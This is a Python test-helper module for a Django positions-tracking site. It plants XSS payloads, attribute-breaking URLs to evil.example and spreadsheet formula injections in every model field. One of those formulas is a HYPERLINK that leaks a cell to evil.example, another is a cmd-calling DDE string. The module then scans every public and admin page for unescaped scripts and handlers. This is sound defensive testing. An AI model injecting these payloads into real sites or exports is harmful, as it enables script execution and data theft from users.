"""
Hostile data and the tools to hunt for it: a record whose every text field carries a script
payload, every public page of the site built from real objects, and an HTML checker that
finds anything a payload managed to inject.
"""

import gzip
import html
import itertools
import json
import re
import uuid
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlencode

from django.contrib import admin
from django.contrib.auth.models import Group
from django.urls import (
    NoReverseMatch,
    URLPattern,
    URLResolver,
    get_resolver,
    resolve,
    reverse,
)
from django.utils import timezone

from alerts import tokens as alert_tokens
from alerts.models import Event, EventKind, Notification, Subscription, Webhook, WebhookDelivery
from positions.exchange import jobs
from positions.models import (
    ActKind,
    Actor,
    ActorIdentifier,
    BatchAction,
    ConditionStatus,
    ImportBatch,
    ImportBatchChange,
    ImportJob,
    ImportJobState,
    Stance,
    Statement,
    StatementStatus,
)
from tests.factories import (
    ActorFactory,
    ConditionFactory,
    FormalActFactory,
    MembershipFactory,
    QuestionFactory,
    SourceFactory,
    StatementFactory,
    TopicFactory,
    UserFactory,
)


def payload(tag):
    """A script payload naming the field it was put in, to tell where it came out."""
    return f'<script>alert("{tag}")</script>"><img src=x onerror=alert("{tag}")>'


def escaped_marker(tag):
    """How the payload's `alert("tag")` reads once Django has escaped it."""
    return f"alert(&quot;{tag}&quot;)"


def hostile_url(tag):
    """A valid https address that still tries to break out of an href attribute."""
    return f'https://evil.example/"><script>alert("{tag}")</script>'


@dataclass
class HostileRecord:
    objects: dict = field(default_factory=dict)
    # field label -> tag used in its payload, for fields readers should see somewhere
    public_tags: dict = field(default_factory=dict)
    draft_tags: list = field(default_factory=list)
    # payloads in what only staff see (alerts: webhooks, their log, the outbox), never public
    private_tags: list = field(default_factory=list)

    def __getitem__(self, name):
        return self.objects[name]


def build_hostile_record():
    """Every text field of every model holds a payload; a draft holds its own, never public."""
    record = HostileRecord()

    def tag(label):
        record.public_tags[label] = label.replace(".", "-")
        return payload(record.public_tags[label])

    user = UserFactory(username="hostile-editor", is_staff=True, first_name=tag("user.first_name"))
    group = Group.objects.create(name=tag("group.name")[:150])
    user.groups.add(group)

    parent = ActorFactory(
        name=tag("parent.name"), slug="hostile-parent", description=tag("parent.description")
    )
    actor = ActorFactory(
        name=tag("actor.name"),
        slug="hostile-actor",
        parent=parent,
        country="US",
        aliases=tag("actor.aliases") + "\n" + payload("actor-alias-2"),
        description=tag("actor.description"),
        website=hostile_url("actor-website"),
    )
    ActorIdentifier.objects.create(actor=actor, scheme="wikidata", identifier=tag("identifier"))
    ActorIdentifier.objects.create(actor=actor, scheme="ocd-person", identifier=tag("ocd"))
    MembershipFactory(
        member=actor, organization=parent, role=tag("membership.role")[:100], note=tag("mnote")
    )
    topic = TopicFactory(
        title=tag("topic.title"), slug="hostile-topic", summary=tag("topic.summary")
    )
    question = QuestionFactory(
        topic=topic,
        title=tag("question.title"),
        short_label=tag("ql")[:80],
        slug="hostile-question",
        description=tag("question.description"),
        # Decided by the hostile parent, of which the actor is a member: a whip count.
        deciding_body=parent,
        threshold_kind="majority",
        seats=100,
    )
    source = SourceFactory(
        title=tag("source.title"),
        publisher=tag("source.publisher"),
        url=hostile_url("source-url"),
        archive_url=hostile_url("source-archive-url"),
    )
    condition = ConditionFactory(
        text=tag("condition.text"),
        slug="hostile-condition",
        description=tag("condition.description"),
        status=ConditionStatus.NOT_MET,
        status_note=tag("condition.status_note"),
    )
    statement = StatementFactory(
        question=question,
        actors=[actor, parent],
        source=source,
        stance=Stance.CONDITIONAL,
        conditions=[condition],
        summary=tag("statement.summary"),
        quote=tag("statement.quote"),
        quote_locator=tag("statement.quote_locator")[:200],
        import_ref="hostile-1",
    )
    retracted = StatementFactory(
        question=question,
        actors=[actor],
        source=source,
        stance=Stance.OPPOSES,
        summary=tag("retracted.summary"),
        status=StatementStatus.RETRACTED,
        correction_note=tag("statement.correction_note"),
    )
    record.draft_tags = ["draft-summary", "draft-quote"]
    draft = StatementFactory(
        question=question,
        actors=[actor],
        source=source,
        stance=Stance.SUPPORTS,
        summary=payload("draft-summary"),
        quote=payload("draft-quote"),
        status=StatementStatus.DRAFT,
    )
    formal_act = FormalActFactory(
        actor=actor,
        topic=topic,
        kind=ActKind.RESERVATION,
        text=tag("act.text"),
        place=tag("act.place")[:200],
        depositary_reference=tag("act.depositary_reference")[:200],
        source=source,
    )
    # Spreadsheet formulas, for the downloads: a cell must never start with = + - @ tab or CR.
    formula_actor = ActorFactory(
        name='=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
        slug="formula-actor",
        description="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    formula_source = SourceFactory(title="+1+1", publisher="-2+3")
    StatementFactory(
        question=question,
        actors=[formula_actor],
        source=formula_source,
        summary="=1+1",
        quote="\t=2+2",
        quote_locator="\r=3+3",
    )
    # A background import (and so its task), checked, whose preview shows hostile cells.
    import_job = jobs.start(user, "actors", tag("import_job.file_name")[:200], "csv", b"slug\n")
    ImportJob.objects.filter(pk=import_job.pk).update(
        state=ImportJobState.CHECKED,
        preview={
            "totals": {"new": 1, "update": 0, "skip": 0, "error_rows": 0, "errors": 0},
            "rows": [["new", [tag("import_job.cell")]]],
            "errors": [],
            "error_values": {},
        },
    )
    # A confirmed import whose file name and records are hostile; its undo page names the
    # actor it changed (edited since, so the page lists it as a conflict).
    batch = ImportBatch.objects.create(
        kind="actors", file_name=tag("import_batch.file_name")[:200], user=user, changed_rows=1
    )
    ImportBatchChange.objects.create(
        batch=batch,
        model="positions.actor",
        object_id=actor.pk,
        action=BatchAction.UPDATED,
        before={"description": ""},
        fingerprint="edited-since",
        label=tag("import_batch.label")[:200],
    )
    # Alerts: a reader's subscription, a webhook, the outbox and a delivery's log.
    record.private_tags = ["webhook-name", "webhook-url", "webhook-secret", "event-data"]
    record.private_tags += ["delivery-body", "delivery-error"]
    now = timezone.now()
    subscription = Subscription.objects.create(
        email="hostile-reader@example.org",
        question=question,
        confirmation_sent_at=now,
        confirmed_at=now,
    )
    webhook = Webhook.objects.create(
        name=payload("webhook-name"),
        url=hostile_url("webhook-url"),
        secret=payload("webhook-secret"),
    )
    event = Event.objects.create(
        batch=uuid.uuid4(),
        kind=EventKind.STANCE_CHANGED,
        question=question,
        actor=actor,
        statement=statement,
        data={"from": None, "to": "conditional", "note": payload("event-data")},
    )
    Notification.objects.create(subscription=subscription, event=event)
    WebhookDelivery.objects.create(
        webhook=webhook,
        batch=event.batch,
        body=json.dumps({"events": [payload("delivery-body")]}),
        status_code=500,
        attempts=1,
        last_error=payload("delivery-error"),
        next_attempt_at=now,
    )
    record.objects.update(
        subscription=subscription,
        webhook=webhook,
        import_job=import_job,
        user=user,
        group=group,
        actor=actor,
        parent=parent,
        topic=topic,
        question=question,
        source=source,
        condition=condition,
        statement=statement,
        retracted=retracted,
        draft=draft,
        formal_act=formal_act,
    )
    return record


# --- Finding injections in HTML -----------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
DATA_SCRIPT_TYPES = {"application/json", "application/ld+json"}


class InjectionFinder(HTMLParser):
    """Collects what an escaped page never contains: live handlers, scripts, js: URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.inline_styles = []
        self._script = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>: inline event handler")
            if name in URL_ATTRIBUTES and (value or "").strip().lower().startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                self.problems.append(f"<{tag} {name}={value!r}>: script URL")
            if name == "style":
                self.inline_styles.append(f"<{tag} style={value!r}>")
        if tag == "img" and attributes.get("src") == "x":
            self.problems.append("<img src=x>: the payload's image element")
        if tag == "script":
            self._script = {"attrs": attributes, "text": ""}
        if tag == "style":
            self.inline_styles.append("<style> block")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def handle_data(self, data):
        if self._script is not None:
            self._script["text"] += data

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            attrs, text = self._script["attrs"], self._script["text"]
            kind = (attrs.get("type") or "").lower()
            if kind in DATA_SCRIPT_TYPES:
                # Data, not code: but it must not be able to close its own element.
                if re.search(r"</?script", text, re.IGNORECASE):
                    self.problems.append("a data <script> contains a <script> tag")
            elif text.strip():
                self.problems.append(f"inline <script>: {text.strip()[:80]!r}")
            self._script = None


def injections(page):
    finder = InjectionFinder()
    finder.feed(page)
    finder.close()
    return finder.problems


def inline_styles(page):
    finder = InjectionFinder()
    finder.feed(page)
    finder.close()
    return finder.inline_styles


def unescaped_payloads(page, tags):
    """Tags whose payload appears verbatim (unescaped) in a page."""
    return [tag for tag in tags if payload(tag) in page or f'alert("{tag}")</script>' in page]


def shown_tags(page, tags):
    text = html.unescape(page)
    return {tag for tag in tags if f'alert("{tag}")' in text}


# --- Every public page ----------------------------------------------------------------------

# Patterns that are not pages a reader opens with GET, with the reason.
NOT_PUBLIC_PAGES = {
    "api-v1:api-root": "django-ninja's placeholder at /api/v1/ itself: a 404 naming the docs",
}
# Namespaces that are not public.
PRIVATE_NAMESPACES = {"admin"}


@dataclass(frozen=True)
class PublicPattern:
    name: str  # "namespace:name"
    kwargs: tuple  # the names of the pattern's arguments
    # argument name -> the regular expression it must match
    argument_patterns: tuple = ()

    def __str__(self):
        return self.name


def public_patterns(resolver=None, namespace=""):
    """Every named URL pattern outside the admin, with its arguments (from the URLconf)."""
    resolver = resolver or get_resolver()
    found = []
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            if entry.namespace in PRIVATE_NAMESPACES:
                continue
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            found.extend(public_patterns(entry, inner))
        elif isinstance(entry, URLPattern) and entry.name:
            name = f"{namespace}{entry.name}"
            if name not in NOT_PUBLIC_PAGES:
                regex = entry.pattern.regex
                found.append(
                    PublicPattern(
                        name,
                        tuple(sorted(regex.groupindex)),
                        tuple(sorted(named_group_patterns(regex.pattern).items())),
                    )
                )
    return sorted(set(found), key=str)


def named_group_patterns(regex_text):
    """{"fmt": "csv|json", "slug": "[-a-zA-Z0-9_]+"} for the named groups of a pattern."""
    return dict(re.findall(r"\(\?P<(\w+)>((?:[^()]|\([^()]*\))*)\)", regex_text))


# Words tried for an argument that no object supplies, such as the `kind` of a download.
def argument_vocabulary():
    from django.apps import apps

    words = set()
    for model in apps.get_app_config("positions").get_models():
        meta = model._meta
        if not meta.model_name.startswith("historical"):
            words |= {meta.model_name, f"{meta.model_name}s", str(meta.verbose_name_plural)}
    words |= {"positions", "boards", "board", "all", "csv", "json", "atom", "rss", "xml"}
    return sorted({word.replace(" ", "") for word in words})


def argument_values(argument, argument_pattern):
    """Every value an argument without an object can take: a literal alternation (csv|json)
    gives its words; anything else, the vocabulary words it matches."""
    if re.fullmatch(r"[\w.-]+(\|[\w.-]+)*", argument_pattern):
        return argument_pattern.split("|")
    return [w for w in argument_vocabulary() if re.fullmatch(argument_pattern, w)]


def candidate_kwargs(record):
    """For each public object: the arguments of its own page, by model name."""
    candidates = []
    for obj in record.objects.values():
        if isinstance(obj, Subscription):  # its pages are its mailed links
            for token in (alert_tokens.confirm_token(obj), alert_tokens.unsubscribe_token(obj)):
                candidates.append(("subscription", {"token": token}))
            continue
        if isinstance(obj, Statement) and obj.status == StatementStatus.DRAFT:
            continue
        model_name = obj._meta.model_name
        options = [{"pk": obj.pk}]
        if getattr(obj, "slug", None):
            options.append({"slug": obj.slug})
        if hasattr(obj, "get_absolute_url"):
            options.insert(0, resolve(obj.get_absolute_url()).kwargs)
        candidates.extend((model_name, kwargs) for kwargs in options)
    return candidates


def public_urls(pattern, record, client):
    """Every URL of `pattern` that answers 200, built from the record's real objects (the
    objects a pattern's name starts with first), and every value of its other arguments."""
    if not pattern.kwargs:
        return [reverse(pattern.name)]
    short_name = pattern.name.rsplit(":", 1)[-1]
    argument_patterns = dict(pattern.argument_patterns)
    # Objects whose model the pattern names ("feed_actor" → the actor) are tried first.
    ranked = sorted(candidate_kwargs(record), key=lambda c: c[0] not in short_name.split("_"))
    object_options = [kwargs for _model, kwargs in ranked if set(kwargs) <= set(pattern.kwargs)]
    object_options.append({})
    tried, found = [], []
    for object_kwargs in object_options:
        rest = [name for name in pattern.kwargs if name not in object_kwargs]
        choices = [argument_values(name, argument_patterns.get(name, "")) for name in rest]
        for values in itertools.product(*choices):
            kwargs = {**object_kwargs, **dict(zip(rest, values, strict=True))}
            try:
                url = reverse(pattern.name, kwargs=kwargs)
            except NoReverseMatch:
                continue
            if url in tried:
                continue
            tried.append(url)
            if client.get(url).status_code == 200:
                found.append(url)
        if found and object_kwargs:
            break  # one object's pages are enough; other values of the rest are all kept
    if not found:
        raise AssertionError(
            f"No object of the hostile record gives a page for {pattern.name} "
            f"({', '.join(pattern.kwargs)}); tried {tried}. Teach tests/hostile.py about it."
        )
    return found


def public_url(pattern, record, client):
    """One URL of `pattern` that answers 200."""
    return public_urls(pattern, record, client)[0]


def body_of(response):
    """The content of a response, streamed or not, as text (compressed: unpacked)."""
    if response.get("Content-Type") == "application/gzip":
        packed = b"".join(response.streaming_content) if response.streaming else response.content
        return gzip.decompress(packed).decode()
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


# --- Every admin page ------------------------------------------------------------------------


def admin_urls(record):
    """Every admin page that takes no more than an object or app: index, lists, forms,
    history, deletion, and any custom view a ModelAdmin adds, from the admin's URLconf."""
    objects = {}
    for obj in record.objects.values():
        objects.setdefault(type(obj), obj)
    for model in admin.site._registry:
        if model not in objects:
            first = model._default_manager.order_by("pk").first()
            if first is not None:
                objects[model] = first
    by_prefix = {f"{m._meta.app_label}_{m._meta.model_name}_": m for m in admin.site._registry}

    admin_resolver = next(
        entry
        for entry in get_resolver().url_patterns
        if isinstance(entry, URLResolver) and entry.namespace == "admin"
    )

    def walk(resolver):
        for entry in resolver.url_patterns:
            if isinstance(entry, URLResolver):
                yield from walk(entry)
            elif isinstance(entry, URLPattern) and entry.name:
                yield entry

    urls, skipped = [], []
    for entry in walk(admin_resolver):
        name, regex = entry.name, entry.pattern.regex
        model = next((m for p, m in by_prefix.items() if name.startswith(p)), None)
        obj = objects.get(model)
        # simple-history's version page has positional arguments: object id, version id.
        names = list(regex.groupindex) or ["object_id", "version_id"][: regex.groups]
        values = {"app_label": "positions" if Actor in admin.site._registry else "auth"}
        if obj is not None:
            values["object_id"] = values["id"] = obj.pk  # "id": the user password form
            if hasattr(obj, "history"):
                values["version_id"] = obj.history.order_by("history_id").first().history_id
        if not set(names) <= set(values):
            skipped.append(name)  # e.g. view_on_site (content type and object, redirects)
            continue
        if regex.groupindex:
            urls.append(reverse(f"admin:{name}", kwargs={n: values[n] for n in names}))
        else:
            urls.append(reverse(f"admin:{name}", args=[values[n] for n in names]))
        if name.endswith("_changelist"):
            urls.append(urls[-1] + "?" + urlencode({"q": payload("search")}))
    return urls, skipped
